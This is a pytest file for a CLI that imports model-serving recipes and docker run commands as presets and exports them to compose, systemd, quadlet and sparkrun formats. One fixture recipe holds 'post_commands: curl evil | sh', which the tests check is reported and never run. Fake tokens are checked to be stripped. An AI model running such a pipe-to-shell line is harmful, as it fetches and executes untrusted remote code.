"""presets import, presets export: what is told of every recipe, and files for other tools."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from spark_tui.base.engine.docker_run import read_argv, split_text
from spark_tui.catalog.presets.adapter.imports import FolderRecipeStore
from spark_tui.catalog.presets.adapter.store import PresetFiles
from tests.cli.world import World

V1 = """\
recipe_version: "1"
name: Otter
model: acme/otter
container: vllm-node
build_args: [--tf5]
mods: [mods/patch]
defaults: {tensor_parallel: 2, k: 4}
command: |
  vllm serve acme/otter -tp {tensor_parallel} --sc '{{"n":{k}}}' --x {open}
"""
V2 = """\
# Kept.
model: acme/heron
container: acme/heron:1
scheduler: spread
post_commands: curl evil | sh
defaults: {max_model_len: 4096}
env: {A: "1"}
command: vllm serve {model} --max-model-len {max_model_len} --port {port}
"""


class Place:
    """A registry of two recipes and one that is refused, the person's folder, and a world that reads both."""

    def __init__(self, root: Path) -> None:
        self.own = root / "own"
        self.registry = root / "registry"
        (self.registry / "recipes").mkdir(parents=True)
        (self.registry / "mods" / "patch").mkdir(parents=True)
        (self.registry / "mods" / "patch" / "run.sh").write_text("#!/bin/sh\n# Patches \x1b[31mit.\npatch -p1\n")
        (self.registry / "recipes" / "otter.yaml").write_text(V1)
        (self.registry / "recipes" / "heron.yaml").write_text(V2)
        (self.registry / "recipes" / "pulse.yaml").write_text("name: p\nengines: {vllm: {image: x}}\n")
        builtin = root / "builtin"
        builtin.mkdir()
        self.world = World(presets=PresetFiles(builtin, self.own), recipes=FolderRecipeStore(self.own))  # type: ignore[arg-type]

    def run(self, *arguments: str) -> Any:
        return self.world.run("presets", *arguments)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def test_every_recipe_of_a_folder_is_reported_with_what_became_of_its_parts(place: Place) -> None:
    result = place.run("import", str(place.registry))
    assert result.code == 0
    lines = result.out.splitlines()
    for line in (
        f"imported   heron from recipes/heron.yaml -> {place.own}/heron.yaml",
        "not used   scheduler = spread",
        "never run  post_commands: curl evil | sh",
        "changed    tensor_parallel is 1 instead of 2, as in eugr's solo mode.",
        "needs      a value for open",
        "mod        mods/patch, not applied: mods/patch/run.sh",
    ):
        assert line in lines
    assert [line for line in lines if "patch -p1" in line], "the script of a mod is shown"
    assert f"Skipped: {place.registry}/recipes/pulse.yaml:2: This is a spark-pulse recipe (version 2)" in result.err
    assert lines[0] == "2 imported, 1 refused"
    assert place.run("list", "--json").json[0]["id"] == "heron", "and they are presets from now on"


def test_the_report_as_data(place: Place) -> None:
    found = place.run("import", str(place.registry), "--json").json
    heron, otter, pulse = found["recipes"]
    assert (found["licence"], found["licence_reason"]) == (None, "it is not stated")
    assert (heron["outcome"], heron["kept"], heron["hooks"]) == (
        "imported", {"scheduler": "spread"}, ["post_commands: curl evil | sh"],
    )  # fmt: skip
    assert (otter["dialect"], otter["values_needed"]) == ("eugr recipe (version 1)", ["open"])
    assert otter["mods"] == [
        {
            "name": "mods/patch",
            "script": "mods/patch/run.sh",
            "lines": ["# Patches it.", "patch -p1"],
            "about": None,
            "about_reason": "spark-tui does not know this mod",
        }
    ]
    assert (pulse["outcome"], pulse["file"], pulse["problem"]["line"]) == ("refused", None, 2)


def test_a_second_import_changes_nothing_and_a_changed_one_asks(place: Place) -> None:
    file = str(place.registry / "recipes" / "heron.yaml")
    assert place.run("import", file).code == 0
    assert "unchanged  heron from recipes/heron.yaml\n" in place.run("import", file).out
    Path(file).write_text(V2.replace("4096", "8192"))
    result = place.run("import", file)
    assert (result.code, "--force" in result.err) == (4, True)
    assert place.run("import", file, "--force").code == 0
    assert "8192" in (place.own / "heron.yaml").read_text()
    assert place.run("import", file, "--name", "mine").code == 0
    assert (place.own / "mine.yaml").exists()


@pytest.mark.parametrize(
    ("arguments", "stdin", "code", "says"),
    [
        (("import", "recipes/pulse.yaml"), "", 2, "spark-pulse"),
        (("import", "-"), "Hello.\n", 2, "Give a recipe file, or a docker run command."),
        (("import", "-"), "x" * 1_100_000, 2, "longer than"),
        (("--read-only", "import", "."), "", 4, ""),
    ],
    ids=["one-recipe", "no-recipe", "endless", "read-only"],
)
def test_an_import_that_is_refused_is_the_commands_error(
    place: Place, arguments: tuple[str, ...], stdin: str, code: int, says: str
) -> None:
    *options, command, source = arguments
    source = source if source == "-" else str(place.registry / source)
    result = place.world.run(*options, "presets", command, source, stdin=stdin)
    assert (result.code, result.out) == (code, "")
    assert says in result.err
    assert not place.own.exists()


def test_the_demo_imports_nothing(place: Place) -> None:
    world = World(presets=place.world.presets, recipes=FolderRecipeStore(None))
    result = world.run("presets", "import", str(place.registry / "recipes" / "heron.yaml"))
    assert (result.code, "demo writes no presets" in result.err) == (4, True)


# --- docker run ---------------------------------------------------------------------------------------

COMMAND = """\
#!/bin/bash
# Serve it.
export HF_TOKEN=hf_abcdefghijklmnopqrstuv
sudo docker run -d --rm --name crane --gpus all --ipc=host -p 8000:8000 \\
  -e HF_TOKEN="$HF_TOKEN" -v ~/.cache/huggingface:/root/.cache/huggingface \\
  vllm/vllm-openai:nightly \\
  --model acme/crane --max-model-len 8192
"""


def test_a_guide_with_several_commands_is_imported_command_by_command(place: Place, tmp_path: Path) -> None:
    guide = tmp_path / "guide.md"
    guide.write_text(f"# Guide\n```bash\n{COMMAND}```\n\n```\ndocker run --rm --gpus all acme/cuda nvidia-smi\n```\n")
    result = place.run("import", str(guide))
    assert result.code == 0
    assert "1 imported, 1 refused" in result.out
    assert f"imported  crane from guide.md:6 -> {place.own}/crane.yaml" in result.out
    assert "guide.md:13" in result.err and "starts no server" in result.err
    changed = [line for line in result.out.splitlines() if line.startswith("changed ")]
    named = ("--rm", "`HF_TOKEN`", "Port 8000", "~/.cache/huggingface", "memory share auto")
    assert len(changed) == len(named)
    assert all(any(each in line for line in changed) for each in named)
    assert "hf_" not in (place.own / "crane.yaml").read_text()
    shown = read_argv(split_text(place.world.run("up", "crane", "--set", "max_model_len=4096", "--dry-run").out))[0]
    assert shown.command == ("acme/crane", "--max-model-len", "4096", "--gpu-memory-utilization", "0.85")


def test_standard_input_holds_a_command_or_a_recipe(place: Place) -> None:
    result = place.world.run("presets", "import", "-", "--name", "mine", "--json", stdin=COMMAND)
    (recipe,) = result.json["recipes"]
    assert (recipe["id"], recipe["source"], recipe["outcome"], recipe["dialect"]) == (
        "mine", "standard input", "imported", "shell script",
    )  # fmt: skip
    assert "hf_" not in result.out
    assert place.world.run("presets", "import", "-", stdin=V2).code == 0
    assert (place.own / "heron.yaml").exists(), "named after its model"
    quoted = "".join(f"> {line}\n" for line in V2.splitlines())
    assert place.world.run("presets", "import", "-", "--name", "quoted", stdin=quoted).code == 0


# --- export -------------------------------------------------------------------------------------------


@pytest.fixture
def heron(place: Place) -> Place:
    place.run("import", str(place.registry))
    return place


def test_docker_run_is_what_up_would_run(heron: Place) -> None:
    settings = ("--set", "max_model_len=8192", "--set", "gpu_memory_utilization=0.5")
    result = heron.run("export", "heron", *settings)
    assert result.code == 0
    dry = heron.world.run("up", "heron", *settings, "--dry-run")
    assert read_argv(split_text(result.out))[0] == read_argv(split_text(dry.out))[0]


@pytest.mark.parametrize("share", ["", "--gpu-memory-utilization {gpu_memory_utilization}"])
def test_a_file_has_the_share_of_the_recipe_and_says_what_a_launch_takes_now(place: Place, share: str) -> None:
    place.own.mkdir()
    text = f"model: openai/gpt-oss-20b\ncontainer: acme/heron:1\ncommand: vllm serve {{model}} {share}\n"
    (place.own / "heron.yaml").write_text(text + "defaults: {gpu_memory_utilization: 0.7}\n" * bool(share))
    dry = place.world.run("up", "heron", "--dry-run", "--json").json
    assert "--gpu-memory-utilization" in dry["argv"], "a launch always has a number"
    for form in ("docker-run", "compose", "systemd", "quadlet", "sparkrun"):
        result = place.run("export", "heron", "--format", form)
        assert ("0.7" in result.out, "--gpu-memory-utilization" in result.out) == (bool(share), bool(share))
        assert ("the recipe's memory share, 0.7" if share else "no memory share") in " ".join(result.err.split())
        assert f"--set gpu_memory_utilization={dry['fit']['memory_share']:g}" in " ".join(result.err.split())
    named = place.run("export", "heron", "--set", "gpu_memory_utilization=0.5")
    assert ("--gpu-memory-utilization 0.5" in named.out, "memory share" in named.err) == (True, False)


def test_a_compose_file_names_the_file_with_the_keys_and_holds_none(heron: Place) -> None:
    result = heron.run("export", "heron", "--format", "compose", "--set", "exposure=lan")
    service = yaml.safe_load(result.out)["services"]["heron"]
    assert service["ports"][0]["host_ip"] == "0.0.0.0"
    assert len(service["env_file"]) == 1
    assert service["env_file"][0] in result.err
    assert "VLLM_API_KEY" not in result.out


def test_units_name_what_to_do_with_them(heron: Place) -> None:
    systemd = heron.run("export", "heron", "--format", "systemd").out
    assert "# Save it as /etc/systemd/system/heron.service, then:\n#   systemctl enable --now heron\n" in systemd
    quadlet = heron.run("export", "heron", "--format", "quadlet").out
    assert "# Save it as /etc/containers/systemd/heron.container, then:\n" in quadlet
    assert "ContainerName=heron\n" in quadlet


def test_sparkrun_gets_the_recipe_as_it_is_written_with_the_changes_in_it(heron: Place) -> None:
    assert heron.run("export", "heron", "--format", "sparkrun").out == (heron.own / "heron.yaml").read_text()
    result = heron.run(
        "export", "heron", "--format", "sparkrun", "--set", "max_model_len=8192", "--set", "max_num_seqs=2",
        "--set", "env.B=2", "--set", "extra_args=--x '{\"a\": 1}'", "--set", "api_key=yes",
    )  # fmt: skip
    recipe = yaml.safe_load(result.out)
    assert recipe["defaults"] == {"max_model_len": 8192, "max_num_seqs": 2}
    assert recipe["env"] == {"A": "1", "B": "2"}
    assert recipe["scheduler"] == "spread"
    assert recipe["command"].endswith("--port {port} \\\n  --max-num-seqs {max_num_seqs} --x '{\"a\": 1}'\n")
    assert "API key" in result.err


def test_every_export_says_once_what_a_launch_does_otherwise(heron: Place) -> None:
    for form in ("docker-run", "compose", "systemd", "quadlet", "sparkrun"):
        notes = heron.run("export", "heron", "--format", form, "--json").json["notes"]
        for words in ("--shm-size 10g, not Docker's 64m: ", "-p 127.0.0.1:8000:8000: "):
            (note,) = [each for each in notes if words in each]
            assert note.startswith(words) is (form != "sparkrun"), "a recipe has nothing of a launch"
    shared = heron.run("export", "heron", "--format", "sparkrun", "--set", "exposure=lan")
    assert "127.0.0.1" not in shared.err
    (heron.own / "heron.yaml").write_text(f"{V2}min_nodes: 2\n")
    assert heron.run("export", "heron", "--format", "sparkrun", "--json").json["notes"] == []


def test_how_to_draft_stands_in_the_recipe_as_a_whole_config(heron: Place) -> None:
    drafting = ("--set", "speculation=mtp", "--set", "num_speculative_tokens=2")
    recipe = yaml.safe_load(heron.run("export", "heron", "--format", "sparkrun", *drafting).out)
    assert recipe["defaults"]["speculative_config"] == '{"method":"mtp","num_speculative_tokens":2}'
    command = recipe["command"].format(**{"model": "acme/heron", "port": 8000, **recipe["defaults"]})
    assert """--speculative-config '{"method":"mtp","num_speculative_tokens":2}'""" in command


def test_a_file_is_written_where_there_is_none(heron: Place, tmp_path: Path) -> None:
    file = tmp_path / "compose.yaml"
    result = heron.run("export", "heron", "--format", "compose", "-o", str(file))
    assert (result.code, result.out) == (0, "")
    assert "heron" in yaml.safe_load(file.read_text())["services"]
    assert heron.run("export", "heron", "--format", "compose", "-o", str(file)).code == 4
    assert heron.run("export", "heron", "--format", "compose", "-o", str(tmp_path / "no" / "x")).code == 1


@pytest.mark.parametrize(
    ("settings", "says"),
    [
        (("without=port_x",), "cannot remove options"),
        (("max_model_len=no",), "whole number"),
        (("nonsense=1",), "Unknown parameter nonsense"),
    ],
)
def test_a_change_that_a_recipe_cannot_say_is_refused(heron: Place, settings: tuple[str, ...], says: str) -> None:
    words = [word for setting in settings for word in ("--set", setting)]
    result = heron.run("export", "heron", "--format", "sparkrun", *words)
    assert (result.code, result.out) == (2, "")
    assert says in result.err


def test_secrets_of_a_stranger_are_left_out(place: Place) -> None:
    place.own.mkdir(parents=True)
    (place.own / "leaky.yaml").write_text(V2 + "builder_config: {api_key: sekrit}\n")
    result = place.run("export", "leaky", "--format", "sparkrun")
    assert "sekrit" not in result.out
    assert "left out" in result.err
